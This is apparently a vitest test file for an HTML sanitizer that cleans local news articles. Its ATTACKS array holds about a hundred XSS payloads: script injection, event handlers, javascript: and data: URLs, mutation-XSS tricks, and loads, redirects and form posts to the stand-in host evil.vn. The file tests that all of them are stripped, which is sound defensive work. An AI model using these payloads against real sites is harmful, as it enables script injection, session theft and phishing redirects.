// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { cleanHtml } from './clean-html';

const PICTURE = `/media/news/${'a'.repeat(64)}.webp`;
const TAGS = new Set(
  'p br hr h2 h3 h4 ul ol li blockquote strong em u s sub sup code pre a img table thead tbody tr th td'.split(' '),
);
const ATTRIBUTES = new Set(['href', 'rel', 'target', 'src', 'alt', 'width', 'height', 'colspan', 'rowspan', 'start']);

const parsed = (html: string) => new DOMParser().parseFromString(html, 'text/html');

/**
 * Everything in the page a browser makes of it that news may not contain: checked in the parsed page, not in the text.
 */
function strangersIn(html: string) {
  const document = parsed(`<body><main id="news">${html}</main><i id="after"></i></body>`);
  const main = document.getElementById('news');
  const found = [...document.querySelectorAll('body *')].filter(({ id }) => id !== 'news' && id !== 'after');
  const outside = found.filter((element) => !main?.contains(element)).map(({ tagName }) => `outside: ${tagName}`);
  const wrong = found.flatMap((element) => {
    const tag = element.tagName.toLowerCase();
    const attributes = [...element.attributes]
      .filter(({ name }) => !ATTRIBUTES.has(name))
      .map(({ name }) => `${tag}[${name}]`);
    const href = element.getAttribute('href');
    const src = element.getAttribute('src');
    return [
      ...(TAGS.has(tag) ? [] : [tag]),
      ...attributes,
      ...(href !== null && !['http:', 'https:', 'mailto:', 'tel:'].includes(new URL(href, 'nothing://').protocol)
        ? [`href ${href}`]
        : []),
      ...(src !== null && !/^\/media\/news\/[0-9a-f]{64}\.webp$/.test(src) ? [`src ${src}`] : []),
      ...(tag === 'img' && src === null ? ['img without src'] : []),
    ];
  });
  const comments = document.createNodeIterator(main!, 128);
  return [...outside, ...wrong, ...(comments.nextNode() ? ['comment'] : [])];
}

/** Known attacks; each also tried inside allowed elements, and cleaned a second time. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.vn/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img/src=`x`onerror=alert(1)>',
  '<img src=x:x onerror\x00=alert(1)>',
  `<img src="${PICTURE}" onload=alert(1)>`,
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<p onclick="alert(1)">a</p>',
  '<p ONMOUSEOVER=alert(1)>a</p>',
  '<table onfocus=alert(1) tabindex=1><tr><td onpointerenter=alert(1)>a</td></tr></table>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<keygen autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.vn">x</a>',
  '<a href="/api/auth/logout">x</a>',
  '<a href="\\\\evil.vn">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a href="https://x.vn" ping="https://evil.vn" download onclick=alert(1)>x</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  '<img src="data:image/png;base64,AAAA">',
  '<img src="https://evil.vn/pixel.gif">',
  '<img src="//evil.vn/x.png">',
  `<img src="/media/news/../avatar/x.webp">`,
  `<img src="https://evil.vn${PICTURE}">`,
  `<img src="${PICTURE}" srcset="https://evil.vn/x.png 1x">`,
  '<img src="/api/account/find">',
  '<img src="javascript:alert(1)">',
  '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<picture><source srcset="https://evil.vn/x.png"><img src=x></picture>',
  '<iframe src="https://evil.vn"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src=javascript:alert(1)></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.vn/x.swf">',
  '<applet code=x></applet>',
  '<portal src="https://evil.vn"></portal>',
  '<fencedframe></fencedframe>',
  '<div style="position:fixed;inset:0;z-index:9999;background:url(https://evil.vn)">x</div>',
  '<p style="position:absolute;top:0;left:0;width:100vw;height:100vh">x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<style>body{display:none}</style>',
  '<style>@import url(https://evil.vn/x.css);</style>',
  '<link rel=stylesheet href=https://evil.vn/x.css>',
  '<p class="MuiDialog-root" id="root">x</p>',
  '<td width=99999 style="margin:-999px" background="https://evil.vn/x.png">x</td>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x onload=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<base href="https://evil.vn/">',
  '<meta http-equiv=refresh content="0;url=https://evil.vn">',
  '<form action="https://evil.vn"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<isindex action=javascript:alert(1)>',
  '<dialog open>x</dialog>',
  '<slot name=x></slot><custom-element onclick=alert(1)></custom-element>',
  '</main><p>outside</p>',
  '</body></html><script>alert(1)</script>',
  '<p title="--><script>alert(1)</script>">x</p>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<img alt="`><script>alert(1)</script>" src=x>',
  `<img src="${PICTURE}" alt='"><script>alert(1)</script>'>`,
  `<img src="${PICTURE}" width="1e9" height="-1">`,
  '<td colspan="99999999" rowspan="0x10">x</td>',
  '<ol start="javascript:1"><li>x</li></ol>',
];

const around = [
  (attack: string) => attack,
  (attack: string) => `<p>Trước ${attack} sau</p>`,
  (attack: string) => `<table><tbody><tr><td>${attack}</td></tr></tbody></table>`,
  (attack: string) => `<ul><li><a href="https://xa.vn">${attack}</a></li></ul>`,
];

describe('cleaning the text of news', () => {
  it.each(ATTACKS)('lets nothing through of %s', (attack) => {
    for (const place of around) {
      const cleaned = cleanHtml(place(attack));
      expect([place(attack), cleaned, strangersIn(cleaned)]).toEqual([place(attack), cleaned, []]);
      expect(cleanHtml(cleaned)).toBe(cleaned);
    }
  });

  it('ends in bearable time with endlessly nested elements', () => {
    const cleaned = cleanHtml(`${'<blockquote>'.repeat(5000)}x${'</blockquote>'.repeat(5000)}`);
    expect(cleaned.match(/<blockquote>/g)?.length).toBeLessThanOrEqual(40);
  });

  it('keeps harmless content as it was written', () => {
    const harmless = [
      '<h2>Lịch tiêm chủng</h2>',
      '<h3>Địa điểm</h3>',
      '<p>Trạm y tế <strong>xã Thạnh An</strong>, <em>sáng</em> <u>thứ hai</u>, <s>chiều</s> H<sub>2</sub>O, m<sup>2</sup></p>',
      '<ul><li><p>Mang theo sổ</p></li><li><p>Đến đúng giờ</p></li></ul>',
      '<ol start="3"><li><p>ba</p></li></ol>',
      '<blockquote><p>Lời trích</p></blockquote>',
      '<pre><code>1 &lt; 2 &amp; 3</code></pre>',
      '<hr />',
      '<p>một<br />hai</p>',
      '<table><tbody><tr><th colspan="2" rowspan="1"><p>Giờ</p></th></tr><tr><td><p>7 giờ</p></td><td><p>Thôn 1</p></td></tr></tbody></table>',
      `<img src="${PICTURE}" width="800" height="600" alt="Trạm y tế" />`,
    ].join('');
    expect(parsed(cleanHtml(harmless)).body.innerHTML).toBe(parsed(harmless).body.innerHTML);
  });

  it('lets links open other sites, without telling them where the reader came from', () => {
    for (const href of ['https://xa.vn/tin?a=1&amp;b=2', 'http://xa.vn', 'mailto:ubnd@xa.vn', 'tel:+84912345678']) {
      expect(cleanHtml(`<a href="${href}">x</a>`)).toBe(
        `<a href="${href}" rel="noopener noreferrer nofollow" target="_blank">x</a>`,
      );
    }
  });

  it('keeps the words of removed elements, except those of scripts and drawings', () => {
    expect(cleanHtml('<section><font color=red>Thông báo</font> <h1>Lớn</h1><b>đậm</b><i>nghiêng</i></section>')).toBe(
      'Thông báo <h2>Lớn</h2><strong>đậm</strong><em>nghiêng</em>',
    );
    expect(cleanHtml('<p>a<script>x</script><style>y</style><svg><text>z</text></svg>b</p>')).toBe('<p>ab</p>');
  });
});
